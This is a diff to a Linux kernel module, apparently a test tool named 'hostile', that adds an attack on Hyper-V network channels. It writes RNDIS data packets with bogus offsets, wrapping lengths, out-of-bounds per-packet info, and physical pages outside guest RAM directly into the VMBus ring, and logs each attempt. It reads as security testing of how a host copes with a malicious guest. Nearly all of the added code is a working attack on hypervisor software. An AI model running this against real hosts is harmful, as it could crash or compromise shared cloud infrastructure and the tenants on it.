@@ -15,6 +15,12 @@
  *           a GPADL reusing the live ring's id, a GPADL of pages outside RAM torn down,
  *           and an OPENCHANNEL of the open channel with a bogus GPADL
  *
+ * With net=IFNAME instead of host=N it takes that hv_netvsc interface's primary
+ * channel, and attack=rndis sends NVSP "send RNDIS packet" messages whose RNDIS data
+ * packets lie: offsets and lengths past the message, a message longer than its pages,
+ * a page outside RAM, a range past its page; each asks for a completion the driver
+ * does not know.
+ *
  * Everything it did goes to the kernel log as "hostile: ..." lines. The module stays
  * loaded until rmmod; init fails only when the channel cannot be found.
  */
@@ -23,10 +29,14 @@
 #include <linux/delay.h>
 #include <linux/gfp.h>
 #include <scsi/scsi_host.h>
+#include <linux/netdevice.h>
+#include <linux/io.h>
 #include <asm/mshyperv.h>
 
 static int host = -1;
 module_param(host, int, 0444);
+static char *net = "";
+module_param(net, charp, 0444);
 static char *attack = "";
 module_param(attack, charp, 0444);
 
@@ -379,10 +389,123 @@ static void attack_gpadl(struct vmbus_channel *ch)
 #undef HDR
 }
 
+/* ---- hv_netvsc: lying RNDIS data packets ---------------------------------------- */
+
+static struct vmbus_channel *find_net_channel(void)
+{
+	struct net_device *nd = dev_get_by_name(&init_net, net);
+	struct device *parent;
+	struct vmbus_channel *ch = NULL;
+
+	if (!nd)
+		return NULL;
+	parent = nd->dev.parent;
+	if (parent && parent->bus && !strcmp(parent->bus->name, "vmbus"))
+		ch = container_of(parent, struct hv_device, device)->channel;
+	dev_put(nd);
+	return ch;
+}
+
+struct nvsp_send_rndis {
+	u32 msg_type;		/* 107: send RNDIS packet */
+	u32 channel_type;	/* 0: data */
+	u32 section_index;	/* 0xffffffff: in the pages, not the send buffer */
+	u32 section_size;
+	u8 pad[24];		/* to the 40 bytes Linux sends */
+} __packed;
+
+struct rndis_data {
+	u32 msg_type, msg_len;	/* 1: packet */
+	u32 data_offset, data_len, oob_offset, oob_len, oob_count, ppi_offset, ppi_len;
+	u32 vc, reserved;
+} __packed;
+
+static int put_rndis(struct vmbus_channel *ch, u64 pfn, u32 byte_offset, u32 byte_count, u64 trans)
+{
+	u8 buf[128];
+	struct vmpacket_descriptor d = {
+		.type = VM_PKT_DATA_USING_GPA_DIRECT,
+		.flags = VMBUS_DATA_PACKET_FLAG_COMPLETION_REQUESTED,
+		.trans_id = trans,
+	};
+	struct nvsp_send_rndis m = { .msg_type = 107, .section_index = 0xffffffff };
+	struct gpa_range r = { .byte_count = byte_count, .byte_offset = byte_offset };
+	u32 hdr[2] = { 0, 1 };	/* reserved, range count */
+	u32 off = sizeof(d);
+
+	memcpy(buf + off, hdr, sizeof(hdr));
+	off += sizeof(hdr);
+	memcpy(buf + off, &r, sizeof(r));
+	off += sizeof(r);
+	memcpy(buf + off, &pfn, 8);
+	off += 8;
+	d.offset8 = off / 8;
+	d.len8 = ALIGN(off + sizeof(m), 8) / 8;
+	memcpy(buf, &d, sizeof(d));
+	memcpy(buf + off, &m, sizeof(m));
+	return ring_put(ch, buf, off + sizeof(m));
+}
+
+static void attack_rndis(struct vmbus_channel *ch)
+{
+	struct rndis_data *p = (struct rndis_data *)get_zeroed_page(GFP_KERNEL);
+	u64 pfn;
+	int n = 0, r;
+
+	if (!p) {
+		pr_err("hostile: no page\n");
+		return;
+	}
+	pfn = virt_to_phys(p) >> 12;
+#define LIE(what, off, count, page)							\
+	do {										\
+		r = put_rndis(ch, (page), (off), (count), HOSTILE_TRANS + n);		\
+		pr_info("hostile: rndis %s: %d\n", what, r);				\
+		n += r == 0;								\
+		msleep(100);								\
+	} while (0)
+	/* data past the end of its message */
+	*p = (struct rndis_data){ .msg_type = 1, .msg_len = 100, .data_offset = 0xfffffff0, .data_len = 64 };
+	LIE("data offset past the message", 0, 100, pfn);
+	/* data that wraps around */
+	*p = (struct rndis_data){ .msg_type = 1, .msg_len = 100, .data_offset = 36, .data_len = 0xffffffff };
+	LIE("data length wrapping", 0, 100, pfn);
+	/* per-packet info past the message */
+	*p = (struct rndis_data){ .msg_type = 1, .msg_len = 100, .data_offset = 36, .data_len = 20,
+				  .ppi_offset = 4000, .ppi_len = 64 };
+	LIE("per-packet info past the message", 0, 100, pfn);
+	/* a message longer than the bytes it came in */
+	*p = (struct rndis_data){ .msg_type = 1, .msg_len = 8000, .data_offset = 36, .data_len = 64 };
+	LIE("message longer than its pages", 0, 4096, pfn);
+	/* a page outside guest RAM */
+	*p = (struct rndis_data){ .msg_type = 1, .msg_len = 100, .data_offset = 36, .data_len = 64 };
+	LIE("page outside RAM", 0, 100, 0xfffffffffull);
+	/* a range past the end of its one page */
+	LIE("range past its page", 4000, 200, pfn);
+#undef LIE
+	msleep(500);
+	free_page((unsigned long)p);
+	pr_info("hostile: rndis attack done: %d packets\n", n);
+}
+
 static int __init hostile_init(void)
 {
-	struct vmbus_channel *ch = find_channel();
+	struct vmbus_channel *ch;
 
+	if (*net) {
+		ch = find_net_channel();
+		if (!ch) {
+			pr_err("hostile: %s is not a VMBus network adapter\n", net);
+			return -ENODEV;
+		}
+		pr_info("hostile: net %s: relid %u, attack %s\n", net, ch->offermsg.child_relid, attack);
+		if (!strcmp(attack, "rndis"))
+			attack_rndis(ch);
+		else
+			pr_err("hostile: no network attack named '%s'\n", attack);
+		return 0;
+	}
+	ch = find_channel();
 	if (!ch) {
 		pr_err("hostile: SCSI host %d is not a VMBus storage controller\n", host);
 		return -ENODEV;
